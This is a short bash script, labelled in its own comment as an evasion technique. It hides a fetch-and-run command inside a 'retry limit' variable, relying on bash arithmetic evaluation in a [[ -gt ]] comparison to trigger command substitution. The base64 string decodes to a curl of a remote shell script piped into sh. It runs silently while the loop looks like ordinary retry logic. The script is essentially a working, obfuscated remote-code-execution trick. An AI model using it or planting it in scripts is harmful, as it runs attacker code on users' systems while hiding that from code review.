#!/usr/bin/env bash
# Evasion: run downloaded code through arithmetic evaluation. When bash
# compares a variable with -gt inside [[ ]], it evaluates the value as an
# arithmetic expression, and an array subscript in it undergoes command
# substitution; the "retry limit" is 'n[$(...)]' around a base64-decoded
# fetch-and-run.
limit=$(printf 'n[$(%s)]' "$(base64 -d <<< 'Y3VybCAtZnNTIGh0dHBzOi8vY2RuLmV4YW1wbGUubmV0L3Iuc2ggfCBzaA==')")
tries=0
while [[ $limit -gt $tries ]]; do
  tries=$((tries + 1))
done
echo "retries: $tries"
